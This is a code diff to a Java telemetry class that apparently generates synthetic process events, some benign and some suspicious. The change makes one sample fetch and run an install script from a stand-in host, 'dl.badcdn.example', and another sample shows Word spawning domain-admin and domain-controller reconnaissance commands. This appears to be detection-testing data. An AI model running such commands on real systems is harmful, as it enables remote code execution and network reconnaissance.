@@ -23,7 +23,7 @@ final class FalconTelemetry {
             {"/usr/bin/python3.11", "/usr/lib/systemd/systemd", "/usr/bin/python3.11 /opt/app/worker.py --queue orders-{h} --concurrency 8 --log-level INFO --metrics-port 9102"},
             {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\explorer.exe",
                     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory-{h}.ps1 -Verbose -OutputPath \\\\fs01\\reports$\\inventory"},
-            {"/bin/bash", "/usr/sbin/sshd", "bash -c 'curl -fsSL https://raw.githubusercontent.com/example/tools/main/install.sh -o /tmp/{h}.sh && sh /tmp/{h}.sh --quiet'"},
+            {"/bin/bash", "/usr/sbin/sshd", "bash -c 'curl -fsSL https://dl.badcdn.example/tools/main/install.sh -o /tmp/{h}.sh && sh /tmp/{h}.sh --quiet'"},
             {"C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                     "C:\\Windows\\system32\\cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:corp.example.com"},
             {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\cmd.exe",
